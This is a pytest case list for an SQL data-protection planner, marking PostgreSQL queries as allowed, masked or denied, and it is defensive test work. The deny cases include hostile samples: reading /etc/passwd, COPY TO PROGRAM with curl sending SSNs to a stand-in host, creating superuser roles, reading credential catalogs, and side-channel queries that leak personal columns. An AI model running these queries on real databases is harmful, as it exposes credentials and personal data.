"""More spellings of every corpus category, judged like the corpus (tests/test_corpus.py), live and offline.

One line per case: `expect masked-positions sql` (positions comma-separated, `-` for none).
Controls must be allowed clear; `mask` cases allowed with at least those positions masked
(deny counts as over-strict, not failure); `deny` cases denied.
"""

from __future__ import annotations

import pytest
from test_corpus import ME, TALLY, judge, live, offline, policy  # noqa: F401 (fixtures)

from lineage_guard.planner import plan

CASES = r"""
allow - SELECT now()
allow - SELECT current_date
allow - SELECT 1 + 1
allow - SELECT version()
allow - SELECT id, plan FROM customers LIMIT 10 OFFSET 5
allow - SELECT DISTINCT plan FROM customers
allow - SELECT plan, count(*) FROM customers GROUP BY plan HAVING count(*) > 5
allow - SELECT o.customer_id, sum(o.amount) FROM orders o GROUP BY o.customer_id ORDER BY 2 DESC LIMIT 5
allow - SELECT date_trunc('week', created_at), count(*) FROM orders GROUP BY 1
allow - SELECT id FROM customers WHERE id IN (SELECT customer_id FROM orders WHERE amount > 500)
allow - SELECT c.id, (SELECT count(*) FROM orders o WHERE o.customer_id = c.id) FROM customers c
allow - SELECT * FROM v_customer_plans WHERE plan = 'pro'
allow - SELECT generate_series(1, 3)
allow - SELECT * FROM generate_series(1, 3) AS g(n)
allow - SELECT n FROM generate_series(1, 3) AS g(n)
allow - SELECT g FROM generate_series(1, 3) AS g
allow - SELECT amount::int FROM orders
allow - SELECT id::text FROM customers
allow - SELECT created_at::date FROM customers
allow - SELECT plan::varchar(10) FROM customers
allow - SELECT CAST(plan AS int) FROM customers
allow - SELECT id, amount * 1.1 AS gross FROM orders
allow - SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY amount) FROM orders
allow - SELECT plan, count(*) FILTER (WHERE created_at > '2024-01-01') FROM customers GROUP BY plan
allow - SELECT id, CASE WHEN plan = 'free' THEN 0 ELSE 1 END FROM customers
allow - WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT n FROM t
allow - SELECT c.plan, o.amount FROM customers c LEFT JOIN orders o ON o.customer_id = c.id WHERE o.id IS NULL
allow - SELECT EXISTS (SELECT 1 FROM orders)
allow - SELECT id FROM customers ORDER BY id DESC NULLS LAST
allow - SELECT id, plan FROM customers TABLESAMPLE SYSTEM (50)
allow - SELECT id, jsonb_build_object('plan', plan) FROM customers
allow - SELECT to_char(created_at, 'YYYY') FROM customers
allow - SELECT id FROM customers WHERE created_at BETWEEN now() - interval '30 days' AND now()
allow - SELECT id FROM customers WHERE plan = ANY('{pro,free}')
allow - SELECT id FROM customers c WHERE NOT EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)
allow - SELECT COUNT(*) AS n FROM patients
allow - SELECT id FROM patients
allow - SELECT id, lag(amount) OVER (PARTITION BY customer_id ORDER BY created_at) FROM orders
allow - SELECT DISTINCT ON (customer_id) customer_id, amount FROM orders ORDER BY customer_id, created_at DESC
allow - VALUES (1, 'a')
allow - SELECT id FROM customers FETCH FIRST 5 ROWS ONLY
allow - SELECT * FROM (VALUES (1)) AS t(x)
allow - SELECT coalesce(max(amount), 0) FROM orders
allow - SELECT round(avg(amount)::numeric, 2) FROM orders
allow - SELECT extract(month FROM created_at)::int AS m FROM orders
allow - SELECT lower(plan) AS p, count(*) FROM customers GROUP BY lower(plan)
allow - SELECT id FROM orders WHERE amount > (SELECT avg(amount) FROM orders)
allow - SELECT c.id, o.id, o.amount FROM customers c JOIN orders o ON o.customer_id = c.id WHERE c.plan IN ('pro', 'enterprise') ORDER BY o.amount DESC
allow - SELECT plan, string_agg(id::text, ',' ORDER BY id) FROM customers GROUP BY plan
allow - SELECT plan, array_agg(DISTINCT id) FROM customers GROUP BY plan
allow - SELECT id, created_at AT TIME ZONE 'UTC' FROM orders
allow - SELECT id, age(now(), created_at) FROM orders
allow - SELECT id, created_at + interval '1 day' FROM orders
allow - SELECT * FROM v_customer_plans
deny - SELECT plan, n FROM mv_zip_plan
allow - SELECT count(*) FROM (SELECT DISTINCT customer_id FROM orders) s
allow - SELECT id, amount, sum(amount) OVER (ORDER BY id ROWS BETWEEN 1 PRECEDING AND CURRENT ROW) FROM orders
allow - SELECT customer_id, count(*) AS n FROM orders GROUP BY customer_id HAVING count(*) > 1 ORDER BY n DESC
allow - SELECT id FROM customers WHERE plan <> 'free' AND created_at < now()
allow - SELECT greatest(amount, 100) FROM orders
allow - SELECT id FROM customers UNION ALL SELECT id FROM patients
allow - SELECT id FROM customers INTERSECT SELECT customer_id FROM orders
allow - SELECT o.id FROM orders o WHERE o.customer_id = ANY(ARRAY[1, 2, 3])
allow - SELECT plan, rank() OVER (ORDER BY count(*) DESC) FROM customers GROUP BY plan
allow - SELECT id, ntile(4) OVER (ORDER BY amount) FROM orders
allow - SELECT split_part(plan, 'e', 1) FROM customers
allow - SELECT id FROM customers WHERE plan LIKE 'ent%'
allow - SELECT id FROM customers WHERE plan ~* '^pro'
allow - SELECT o.id, c.plan FROM orders o, customers c WHERE c.id = o.customer_id
allow - SELECT o.id, c.plan FROM orders o LEFT JOIN LATERAL (SELECT plan FROM customers WHERE id = o.customer_id) c ON true
allow - SELECT a.id FROM customers a CROSS JOIN (SELECT max(id) AS m FROM orders) b WHERE a.id < b.m
allow - SELECT 'x' AS label, count(*) FROM orders
allow - SELECT NULL AS nothing
allow - SELECT TRUE AND FALSE
allow - SELECT id, created_at::timestamp(0) FROM orders
allow - SELECT id, amount::numeric(10, 2) FROM orders
allow - SELECT id, amount::money FROM orders
allow - SELECT count(*) FROM customers WHERE created_at > '2024-01-01'::date
allow - SELECT current_timestamp, localtimestamp
allow - SELECT id FROM customers c WHERE c.id > 10 ORDER BY c.created_at LIMIT 3
allow - SELECT min(created_at), max(created_at) FROM orders
allow - SELECT width_bucket(amount, 0, 1000, 10) AS b, count(*) FROM orders GROUP BY 1
allow - SELECT id FROM customers WHERE id = 7
allow - SELECT plan FROM customers WHERE id = $1
allow - SELECT id, plan FROM customers c WHERE EXISTS (SELECT 1 FROM orders WHERE customer_id = c.id AND amount > 100)
allow - SELECT plan, count(*) FROM customers GROUP BY ROLLUP (plan)
allow - SELECT plan, count(*) FROM customers GROUP BY CUBE (plan)
allow - SELECT plan, grouping(plan), count(*) FROM customers GROUP BY GROUPING SETS ((plan), ())
mask 0 SELECT c FROM customers AS c
mask 0 SELECT c.* ::text FROM customers c
mask 0 SELECT (SELECT c FROM customers c LIMIT 1)
mask 0 SELECT json_agg(c) FROM customers c
mask 0 SELECT jsonb_agg(p ORDER BY p.id) FROM patients p
mask 0 SELECT array_agg(o)::text FROM orders o
mask 0 SELECT to_json(array_agg(c)) FROM customers c
mask 0 SELECT string_agg(c::text, ';') FROM customers c
mask 0 SELECT row_to_json(t) FROM (SELECT ssn FROM customers) t
mask 0 SELECT t FROM (SELECT email FROM customers) t
mask 0 SELECT x FROM (SELECT c AS x FROM customers c) s
mask 0 SELECT (x).ssn FROM (SELECT c AS x FROM customers c) s
mask 0 SELECT jsonb_populate_record(null::customers, to_jsonb(c)) FROM customers c
mask 0 SELECT hstore(c) FROM customers c
mask 0 SELECT to_jsonb(c.*) FROM customers c
mask 0 SELECT json_build_object('row', c) FROM customers c
mask 0 SELECT format('%s', ROW(c.ssn, c.id)) FROM customers c
mask 0 SELECT (c).ssn FROM customers c
mask 0 SELECT customers.ssn FROM customers
mask 0 WITH x AS (SELECT * FROM customers) SELECT x FROM x
mask 0 SELECT xmlelement(name r, xmlattributes(c.ssn AS s)) FROM customers c
mask 0 SELECT xmlforest(c.ssn, c.email) FROM customers c
mask 0 SELECT json_object_agg(id, email) FROM customers
mask 0 SELECT jsonb_object_agg(k, v) FROM customers c, jsonb_each_text(to_jsonb(c)) AS e(k, v)
mask 1 SELECT e.key, e.value FROM customers c CROSS JOIN LATERAL jsonb_each(to_jsonb(c)) AS e
mask 0 SELECT v FROM customers c, LATERAL unnest(ARRAY[c.full_name, c.email]) AS u(v)
mask 0 SELECT u FROM customers c, unnest(ARRAY[c.ssn]) u
mask 0 SELECT x FROM customers c, jsonb_array_elements_text(jsonb_build_array(c.email)) AS x
mask 0 SELECT value FROM customers c, jsonb_array_elements_text(jsonb_build_array(c.email))
mask 0 SELECT r.* FROM customers c, jsonb_to_record(to_jsonb(c)) AS r(ssn text)
mask 0 SELECT r.a FROM customers c, jsonb_to_recordset(jsonb_build_array(jsonb_build_object('a', c.ssn))) AS r(a text)
mask 0 SELECT w FROM customers c, regexp_split_to_table(c.email, '@') AS w
mask 0 SELECT m FROM customers c, regexp_matches(c.ssn, '(\d+)') AS m
mask 0 SELECT s FROM customers c, string_to_table(c.phone, '-') s
mask 0 SELECT k FROM customers c, jsonb_object_keys(jsonb_build_object(c.email, 1)) k
mask 0 SELECT g FROM customers c, generate_series(1, length(c.ssn)) g
mask 0 SELECT unnest(string_to_array(ssn, '-')) FROM customers
mask 0 SELECT jsonb_array_elements_text(jsonb_build_array(email)) FROM customers
mask 0 SELECT (jsonb_each_text(to_jsonb(c))).value FROM customers c
mask 0 SELECT ssn FROM customers UNION SELECT 'x'
mask 0 SELECT 'x' UNION SELECT ssn FROM customers
mask 0 SELECT id::text FROM customers UNION ALL SELECT full_name FROM patients
mask 1 SELECT id, plan FROM customers UNION ALL SELECT 1, email FROM customers ORDER BY 1
mask 1 (SELECT id, email FROM customers) INTERSECT (SELECT id, email FROM customers)
mask 0 SELECT * FROM (SELECT email FROM customers UNION SELECT ssn FROM customers) u
mask 0 WITH u AS (SELECT plan AS v FROM customers UNION ALL SELECT zip FROM customers) SELECT v FROM u
mask 0 SELECT x FROM (VALUES (1)) v(k), LATERAL (SELECT ssn AS x FROM customers WHERE id = v.k) l
mask 1 SELECT c.id, l.n FROM customers c LEFT JOIN LATERAL (SELECT c.zip AS n) l ON true
mask 1 SELECT c.id, x FROM customers c, LATERAL (SELECT upper(c.full_name)) AS l(x)
mask 1 SELECT c.id, l.* FROM customers c, LATERAL (SELECT c.birth_date) l
mask 0 WITH a AS (SELECT email AS e FROM customers), b AS (SELECT e AS plan FROM a) SELECT plan FROM b
mask 0 WITH a(x) AS (SELECT ssn FROM customers) SELECT x FROM a
mask 0 WITH a AS MATERIALIZED (SELECT ssn FROM customers) SELECT ssn FROM a
mask 0 WITH a AS NOT MATERIALIZED (SELECT ssn FROM customers) SELECT * FROM a
mask 0 SELECT * FROM (WITH q AS (SELECT phone FROM customers) SELECT phone FROM q) s
mask 0 SELECT (WITH q AS (SELECT min(ssn) m FROM customers) SELECT m FROM q)
mask 1 WITH RECURSIVE r AS (SELECT id, email FROM customers WHERE id = 1 UNION ALL SELECT r.id + 1, r.email FROM r WHERE r.id < 3) SELECT id, email FROM r
mask 1 WITH RECURSIVE r(n, v) AS (SELECT 1, ''::text UNION ALL SELECT n + 1, (SELECT ssn FROM customers WHERE id = n) FROM r WHERE n < 3) SELECT n, v FROM r
mask 0 SELECT ssn FROM (SELECT * FROM (SELECT * FROM customers) a) b
mask 0 SELECT b.x FROM (SELECT a.ssn AS x FROM (SELECT * FROM customers) a) b
deny - SELECT z.q FROM (SELECT id AS q FROM customers) AS z(w) , (SELECT ssn AS q FROM customers) AS zz
mask 0 SELECT "Email" FROM (SELECT email AS "Email" FROM customers) s
mask 0 SELECT "ssn" FROM customers
mask 0 SELECT public.customers.ssn FROM public.customers
mask 0 SELECT c.ssn FROM public.customers AS c
mask 0 SELECT C.SSN FROM CUSTOMERS C
mask 0 SELECT "c".ssn FROM customers "c"
mask 0 SELECT/**/ssn/**/FROM/**/customers
mask 0 SELECT ssn FROM customers AS "CuSt"
mask 0 SELECT x."ssn" FROM customers x
mask 0 SELECT ssn AS "id" FROM customers
mask 1 SELECT 1 AS ssn, ssn AS "1" FROM customers
mask 0 SELECT max(email) FROM customers
mask 0 SELECT min(birth_date) FROM patients
mask 0 SELECT avg(length(notes)) FROM patients
mask 0 SELECT sum(length(ssn)) FROM customers
mask 0 SELECT count(email) FROM customers
mask 0 SELECT count(DISTINCT diagnosis) FROM patients
mask 1 SELECT plan, array_agg(zip) FROM customers GROUP BY plan
mask 1 SELECT plan, string_agg(DISTINCT zip, ',') FROM customers GROUP BY plan
mask 0 SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY extract(year FROM birth_date)) FROM customers
mask 0 SELECT bool_and(phone IS NULL) FROM customers
mask 0 SELECT every(ssn > '5') FROM customers
mask 0 SELECT stddev(length(email)) FROM customers
mask 0 SELECT max(zip) FILTER (WHERE plan = 'pro') FROM customers
mask 0 SELECT json_agg(email ORDER BY id) FROM customers
mask 0 SELECT array_agg(DISTINCT diagnosis ORDER BY diagnosis) FROM patients
mask 0 SELECT xmlagg(xmlelement(name n, notes)) FROM patients
mask 0 SELECT string_agg(card_number, '' ORDER BY id) FROM orders
mask 0 SELECT any_value(ssn) FROM customers
mask 0 SELECT zip, count(*) FROM customers GROUP BY 1
mask 0 SELECT zip FROM customers GROUP BY zip
mask 0 SELECT left(zip, 3), count(*) FROM customers GROUP BY left(zip, 3)
mask 0 SELECT extract(year FROM birth_date) AS y, count(*) FROM patients GROUP BY y
mask 0 SELECT date_trunc('month', birth_date), count(*) FROM customers GROUP BY 1 ORDER BY 1
mask 0 SELECT diagnosis FROM patients GROUP BY diagnosis HAVING count(*) > 1
mask 0 SELECT DISTINCT zip FROM customers
mask 0,1 SELECT DISTINCT zip, birth_date FROM customers
mask 0 SELECT zip, plan, count(*) FROM customers GROUP BY CUBE (zip, plan)
mask 0 SELECT zip, plan, count(*) FROM customers GROUP BY ROLLUP (zip, plan)
mask 0 SELECT zip, grouping(zip) FROM customers GROUP BY GROUPING SETS ((zip), ())
mask 1 SELECT id, rank() OVER (PARTITION BY zip ORDER BY id) FROM customers
mask 1 SELECT id, count(*) OVER (PARTITION BY left(ssn, 3)) FROM customers
mask 1 SELECT id, sum(length(email)) OVER (ORDER BY id) FROM customers
mask 1 SELECT id, row_number() OVER w FROM customers WINDOW w AS (ORDER BY birth_date)
mask 1 SELECT id, min(zip) OVER w FROM customers WINDOW w AS (PARTITION BY plan)
mask 1 SELECT id, lead(email, 1, 'none') OVER (ORDER BY id) FROM customers
mask 1 SELECT id, first_value(ssn) OVER (PARTITION BY plan ORDER BY id ROWS BETWEEN UNBOUNDED PRECEDING AND UNBOUNDED FOLLOWING) FROM customers
mask 1 SELECT id, nth_value(phone, 1) OVER (ORDER BY id) FROM customers
mask 1 SELECT id, percent_rank() OVER (ORDER BY zip) FROM customers
mask 1 SELECT id, dense_rank() OVER (ORDER BY ssn DESC) FROM customers
mask 1 SELECT id, cume_dist() OVER (ORDER BY birth_date) FROM patients
mask 1 SELECT id, ntile(10) OVER (ORDER BY notes) FROM patients
mask 1 SELECT id, lag(id) OVER (ORDER BY ssn) FROM customers
mask 1 SELECT id, count(*) OVER (PARTITION BY zip) FROM customers
mask 1,2 SELECT * FROM v_customer_contact WHERE plan = 'pro'
mask 1 SELECT id, callback FROM v_customer_contact
mask 0 SELECT v.contact FROM public.v_customer_contact v
mask 1 SELECT id, dob FROM v_patient_summary
mask 1 SELECT id, category FROM v_patient_summary
mask 2 SELECT * FROM v_customer_secure
mask 0 SELECT tax_ref AS plan FROM v_customer_secure
mask 0 SELECT zip FROM mv_zip_plan
mask 0 SELECT * FROM mv_zip_plan
mask 0 SELECT lookup_email(1)
mask 1 SELECT id, lookup_email(id) FROM customers
mask 1 SELECT cid, handle FROM customer_export()
mask 0 SELECT handle FROM customer_export() AS e
mask 0 SELECT e.handle FROM public.customer_export() e
mask 0 SELECT upper(lookup_email(2))
mask 0 SELECT (customer_export()).handle
mask 0 SELECT x.contact FROM (SELECT * FROM v_customer_contact) x
mask 0 WITH v AS (SELECT * FROM v_customer_secure) SELECT tax_ref FROM v
mask 0 SELECT c2 FROM (SELECT * FROM v_customer_contact) AS s(c1, c2)
deny - SELECT pg_read_file('/etc/passwd')
deny - SELECT pg_catalog.pg_read_file('x', 0, 10)
deny - SELECT * FROM pg_ls_waldir()
deny - SELECT pg_stat_file('x')
deny - SELECT lo_export(1, '/tmp/x')
deny - SELECT lo_create(0)
deny - SELECT lo_put(1, 0, 'x')
deny - SELECT loread(lo_open(1, 262144), 10)
deny - SELECT setval('orders_id_seq', 100, false)
deny - SELECT currval('orders_id_seq')
deny - SELECT pg_sleep_for('1 second')
deny - SELECT pg_advisory_xact_lock(1)
deny - SELECT pg_notify('ch', (SELECT string_agg(ssn, ',') FROM customers))
deny - SELECT pg_terminate_backend(1)
deny - SELECT pg_cancel_backend(1)
deny - SELECT pg_reload_conf()
deny - SELECT pg_rotate_logfile()
deny - SELECT pg_switch_wal()
deny - SELECT txid_current_snapshot()
deny - SELECT pg_current_xact_id()
deny - SELECT dblink_connect('host=x')
deny - SELECT * FROM dblink('x', 'select 1') AS t(a int)
deny - SELECT query_to_xml_and_xmlschema('select ssn from customers', true, false, '')
deny - SELECT cursor_to_xml('c', 10, true, false, '')
deny - SELECT table_to_xml('customers', true, false, '')
deny - SELECT schema_to_xml('public', true, false, '')
deny - SELECT xpath('//text()', query_to_xml('select ssn from customers', true, false, ''))
deny - SELECT * FROM ts_stat('select to_tsvector(notes) from patients')
deny - SELECT ts_rewrite('a'::tsquery, 'select ''a''::tsquery, ''b''::tsquery')
deny - SELECT set_config('search_path', 'pg_temp', true)
deny - SELECT current_setting('app.stash')
deny - SELECT current_setting('app.stash', true)
deny - WITH s AS (SELECT set_config('x.y', email, false) FROM customers) SELECT count(*) FROM s
deny - SELECT * FROM pg_stats WHERE tablename = 'customers'
deny - SELECT most_common_vals FROM pg_catalog.pg_stats
deny - SELECT * FROM pg_shadow
deny - SELECT * FROM pg_roles
deny - SELECT * FROM pg_user
deny - SELECT * FROM pg_stat_activity
deny - SELECT query FROM pg_stat_statements
deny - SELECT * FROM pg_catalog.pg_proc
deny - SELECT * FROM information_schema.tables
deny - SELECT * FROM "pg_catalog"."pg_authid"
deny - SELECT pg_get_viewdef('v_customer_secure')
deny - SELECT obj_description('customers'::regclass)
deny - SELECT has_table_privilege('customers', 'select')
deny - SELECT to_regclass('customers')
deny - SELECT inet_server_addr()
deny - SELECT current_query()
deny - SELECT pg_backend_pid()
deny - SET LOCAL search_path = pg_temp
deny - SET SESSION AUTHORIZATION postgres
deny - RESET ALL
deny - DISCARD ALL
deny - SET TRANSACTION READ WRITE
deny - BEGIN READ WRITE
deny - START TRANSACTION
deny - COMMIT
deny - ROLLBACK
deny - SAVEPOINT a
deny - SHOW ALL
deny - LOAD 'auto_explain'
deny - ALTER SYSTEM SET log_statement = 'none'
deny - CREATE EXTENSION dblink
deny - CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'
deny - CREATE TEMP TABLE x AS SELECT ssn FROM customers
deny - CREATE VIEW v AS SELECT ssn AS plan FROM customers
deny - CREATE ROLE x SUPERUSER
deny - ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC
deny - REVOKE SELECT ON customers FROM PUBLIC
deny - SECURITY LABEL ON COLUMN customers.ssn IS 'public'
deny - DROP VIEW v_customer_secure
deny - DROP FUNCTION lookup_email(int)
deny - CREATE POLICY p ON customers USING (true)
deny - ALTER TABLE customers DISABLE ROW LEVEL SECURITY
deny - REINDEX TABLE customers
deny - CLUSTER customers
deny - CHECKPOINT
deny - VACUUM ANALYZE customers
deny - LOCK customers
deny - SELECT * FROM customers FOR NO KEY UPDATE
deny - SELECT * FROM customers FOR KEY SHARE SKIP LOCKED
deny - SELECT * FROM customers c JOIN orders o ON o.customer_id = c.id FOR UPDATE OF c
deny - EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM customers
deny - EXPLAIN VERBOSE SELECT ssn FROM customers
deny - EXPLAIN (FORMAT JSON) SELECT 1
deny - PREPARE p(text) AS SELECT id FROM customers WHERE ssn = $1
deny - EXECUTE p('975-45-1106')
deny - DEALLOCATE ALL
deny - DECLARE c CURSOR FOR SELECT ssn FROM customers
deny - FETCH NEXT FROM c
deny - CLOSE c
deny - LISTEN ch
deny - UNLISTEN *
deny - NOTIFY ch
deny - DO $$ BEGIN RAISE NOTICE '%', (SELECT ssn FROM customers LIMIT 1); END $$
deny - CALL refresh_reporting()
deny - REFRESH MATERIALIZED VIEW CONCURRENTLY mv_zip_plan
deny - COPY customers TO STDOUT WITH CSV
deny - COPY (SELECT ssn FROM customers) TO '/tmp/x'
deny - COPY customers FROM '/tmp/x'
deny - COPY customers (ssn) TO PROGRAM 'curl -d @- http://x'
deny - INSERT INTO orders SELECT * FROM orders
deny - INSERT INTO orders (card_number) VALUES ('x') ON CONFLICT DO NOTHING
deny - UPDATE orders SET amount = 0 WHERE true
deny - UPDATE customers c SET plan = o.card_number FROM orders o WHERE o.customer_id = c.id
deny - DELETE FROM orders USING customers c WHERE c.id = orders.customer_id
deny - MERGE INTO orders o USING customers c ON o.customer_id = c.id WHEN MATCHED THEN UPDATE SET card_number = c.ssn
deny - TRUNCATE TABLE orders, customers CASCADE
deny - SELECT 1; SELECT 2
allow - SELECT 1;
mask 0 ; SELECT ssn FROM customers
deny - SELECT * INTO TEMPORARY TABLE x FROM customers
deny - SELECT ssn INTO x FROM customers
deny - WITH x AS (UPDATE orders SET amount = 1 RETURNING *) SELECT 1
deny - WITH x AS (INSERT INTO orders DEFAULT VALUES RETURNING id) SELECT * FROM x
deny - SELECT * FROM (WITH d AS (DELETE FROM orders RETURNING *) SELECT 1) s
deny - WITH RECURSIVE x AS (SELECT 1) , d AS (DELETE FROM orders) SELECT * FROM x
deny - WITH m AS (MERGE INTO orders o USING customers c ON false WHEN NOT MATCHED THEN DO NOTHING) SELECT 1
deny - SELECT * FROM stash
deny - SELECT * FROM pg_temp.stash
deny - SELECT * FROM pg_temp_3.stash
deny - SELECT * FROM other_schema.customers
deny - SELECT ssn FROM customers2
deny - SELECT "SSN" FROM customers
deny - SELECT * FROM "Customers"
deny - \d customers
deny - SELECT U&"\0073sn" FROM customers WHERE id = 1 AND ssn = '1'
deny - SELECT id FROM customers WHERE ssn = '975-45-1106'
deny - SELECT id FROM customers WHERE ssn <> '975-45-1106'
deny - SELECT id FROM customers WHERE NOT ssn = '975-45-1106'
deny - SELECT id FROM customers WHERE ssn IS NOT DISTINCT FROM '975-45-1106'
deny - SELECT id FROM customers WHERE left(ssn, 3) = '975'
deny - SELECT id FROM customers WHERE substring(ssn from 1 for 1) = '9'
deny - SELECT id FROM customers WHERE ssn > '950' AND ssn < '951'
deny - SELECT id FROM customers WHERE ssn SIMILAR TO '97%'
deny - SELECT id FROM customers WHERE ssn ~ '^97'
deny - SELECT id FROM customers WHERE ssn !~ '^97'
deny - SELECT id FROM customers WHERE ssn ILIKE '97%'
deny - SELECT id FROM customers WHERE email LIKE '%nobody%'
deny - SELECT id FROM customers WHERE strpos(email, 'nobody') > 0
deny - SELECT id FROM customers WHERE length(full_name) = 16
deny - SELECT id FROM customers WHERE birth_date = '1990-05-08'
deny - SELECT id FROM customers WHERE extract(year FROM birth_date) = 1990
deny - SELECT id FROM customers WHERE age(birth_date) > interval '60 years'
deny - SELECT id FROM customers WHERE phone IS NULL
deny - SELECT id FROM customers WHERE zip IN (SELECT '99919')
deny - SELECT id FROM customers WHERE zip = ANY('{99919,99938}')
deny - SELECT id FROM customers WHERE (zip, plan) = ('99919', 'free')
deny - SELECT id FROM customers WHERE md5(ssn) = 'abc'
deny - SELECT id FROM customers WHERE to_tsvector(full_name) @@ to_tsquery('Fakey')
deny - SELECT id FROM patients WHERE notes LIKE '%code 95%'
deny - SELECT id FROM patients WHERE diagnosis IN ('I10 hypertension (FAKE)')
deny - SELECT id FROM patients WHERE mrn = 'MRN-FAKE-841666'
deny - SELECT o.id FROM orders o WHERE o.card_number LIKE '0000-79%'
deny - SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id AND c.ssn LIKE '9%'
deny - SELECT c.id FROM customers c JOIN LATERAL (SELECT 1 WHERE c.ssn = '1') l ON true
deny - SELECT c.id FROM customers c WHERE c.id IN (SELECT id FROM patients WHERE diagnosis LIKE 'E11%')
deny - SELECT c.id FROM customers c WHERE EXISTS (SELECT 1 FROM customers c2 WHERE c2.id = c.id AND c2.email LIKE 'a%')
deny - SELECT id FROM customers ORDER BY ssn
deny - SELECT id FROM customers ORDER BY birth_date DESC LIMIT 1
deny - SELECT id FROM customers ORDER BY length(email)
deny - SELECT id, ssn FROM customers ORDER BY 2
deny - SELECT id, email AS e FROM customers ORDER BY e
deny - SELECT DISTINCT ON (birth_date) id FROM customers ORDER BY birth_date
deny - SELECT id FROM customers c ORDER BY (SELECT ssn FROM customers c2 WHERE c2.id = c.id)
deny - SELECT id FROM (SELECT id, ssn FROM customers ORDER BY ssn) s
deny - SELECT id FROM customers UNION SELECT id FROM customers WHERE ssn = '1'
deny - SELECT id FROM customers WHERE plan = 'pro' ORDER BY zip
deny - SELECT plan, count(*) FROM customers WHERE ssn = '975-45-1106' GROUP BY plan
deny - SELECT count(*) FROM customers WHERE ssn = '975-45-1106'
deny - SELECT count(*) FROM customers WHERE ssn IN ('1', '2')
deny - SELECT count(*) FROM customers WHERE id = 7 AND zip LIKE '9%'
deny - SELECT plan, count(*) FROM customers GROUP BY plan HAVING min(ssn) = '975-45-1106'
deny - SELECT id, count(*) FROM customers WHERE ssn LIKE '9%' GROUP BY id
deny - SELECT id FROM customers LIMIT (SELECT count(*) FROM customers WHERE ssn = '1')
deny - SELECT id FROM customers WHERE id = 7 AND ssn::int > 0
deny - SELECT id, full_name::date FROM customers
deny - SELECT id, email::int FROM customers
deny - SELECT id, notes::xml FROM patients
deny - SELECT id, mrn::uuid FROM patients
deny - SELECT id, ssn::bigint FROM customers
deny - SELECT id, ssn::numeric(12) FROM customers
deny - SELECT id, ssn::inet FROM customers
deny - SELECT id, ssn::boolean FROM customers
deny - SELECT id, ssn::interval FROM customers
deny - SELECT id, ssn::timestamp FROM customers
deny - SELECT id, ssn::regclass FROM customers
deny - SELECT id, ssn::text[] FROM customers
deny - SELECT id, CAST(CAST(ssn AS text) AS int) FROM customers
deny - SELECT id, to_date(full_name, 'YYYY') FROM customers
deny - SELECT id, to_timestamp(email, 'YYYY') FROM customers
deny - SELECT id, to_number(phone, '999') FROM customers
deny - SELECT id, decode(email, 'base64') FROM customers
deny - SELECT id, convert_from(decode(ssn, 'hex'), 'UTF8') FROM customers
deny - SELECT id, xmlparse(content notes) FROM patients
deny - SELECT id, format(ssn) FROM customers
deny - SELECT id, (ssn || '')::int FROM customers
deny - SELECT id, upper(ssn)::int FROM customers
deny - SELECT id, nullif(ssn, '')::date FROM customers
deny - SELECT id FROM customers WHERE birth_date > full_name::date
deny - SELECT 1 / (length(ssn) - 11) FROM customers WHERE id = 7
mask 0 SELECT c.ssn FROM customers c JOIN (orders o JOIN patients p ON p.id = o.id) ON c.id = o.customer_id
mask 3,6,7,8,9,10 SELECT * FROM (orders o JOIN patients p ON p.id = o.id)
mask 1 SELECT j.id, j.card_number FROM (orders o JOIN customers c ON c.id = o.customer_id) AS j(id, x, y, card_number)
deny - SELECT o.id FROM (orders o JOIN customers c ON c.id = o.customer_id) AS j
allow - SELECT o.id, c.plan FROM (orders o JOIN customers c ON c.id = o.customer_id)
allow - SELECT int4(amount) FROM orders
allow - SELECT text(id), date(created_at) FROM customers
mask 1 SELECT id, text(ssn) FROM customers
mask 1 SELECT id, date(birth_date) FROM customers
deny - SELECT id, int4(ssn) FROM customers
deny - SELECT id, date(full_name) FROM customers
deny - SELECT id, jsonb(email) FROM customers
allow - SELECT pg_size_pretty(sum(amount)::bigint) FROM orders
allow - SELECT daterange(created_at::date, created_at::date + 1) FROM orders
deny - SELECT count(*) FROM customers WHERE ssn BETWEEN '975-45-1106' AND '975-45-1106'
deny - SELECT customer_id, count(*) FROM orders WHERE card_number LIKE '0000-7%' GROUP BY customer_id
deny - SELECT zip, count(*) FROM customers WHERE birth_date < '1950-01-01' GROUP BY zip
allow - SELECT plan, count(*) FROM customers WHERE birth_date < '1950-01-01' GROUP BY plan
mask 0 SELECT diagnosis, count(*) FROM patients GROUP BY diagnosis
allow - SELECT customer_id, count(*) FROM orders GROUP BY customer_id
allow - SELECT count(*) FROM patients WHERE birth_date BETWEEN '1950-01-01' AND '1960-01-01'
deny - SELECT ssn AS id FROM customers ORDER BY id
deny - SELECT birth_date AS created_at FROM customers ORDER BY created_at
allow - SELECT id AS ssn FROM customers ORDER BY ssn
deny - SELECT DISTINCT ON (id) zip AS id, plan FROM customers ORDER BY id
deny - SELECT id FROM customers LIMIT (SELECT length(ssn) FROM customers WHERE id = 7)
deny - SELECT id FROM customers OFFSET (SELECT ascii(ssn) FROM customers WHERE id = 7)
mask 0 SELECT zip AS plan, count(*) FROM customers GROUP BY plan
allow - SELECT plan FROM customers ORDER BY plan LIMIT 5
deny - SELECT id, generate_series(1, length(ssn)) FROM customers
deny - SELECT c.id FROM customers c, generate_series(1, length(c.ssn)) g
deny - SELECT id, unnest(string_to_array(email, '.')) FROM customers
deny - SELECT c.id, w FROM customers c, regexp_split_to_table(c.full_name, ' ') AS w
mask 0 SELECT unnest(ARRAY[full_name, email, ssn]) AS plan FROM customers
mask 1 SELECT j.key, j.value FROM customers c, jsonb_each_text(to_jsonb(c)) AS j
mask 0 SELECT t.v FROM ROWS FROM (unnest(ARRAY(SELECT ssn FROM customers))) AS t(v)
mask 0 SELECT r.x FROM customers c, jsonb_to_record(jsonb_build_object('x', c.ssn)) AS r(x text)
allow - SELECT generate_series(1, 3)
allow - SELECT id, generate_series(1, amount::int % 3) FROM orders
deny - SELECT id, jsonb_path_query(to_jsonb(c), '$ ? (@.ssn starts with "97")') FROM customers c
deny - SELECT date_trunc(ssn, created_at) FROM customers
deny - SELECT date_part(email, created_at) FROM customers
deny - SELECT id, chr(ascii(ssn) * 1000000) FROM customers
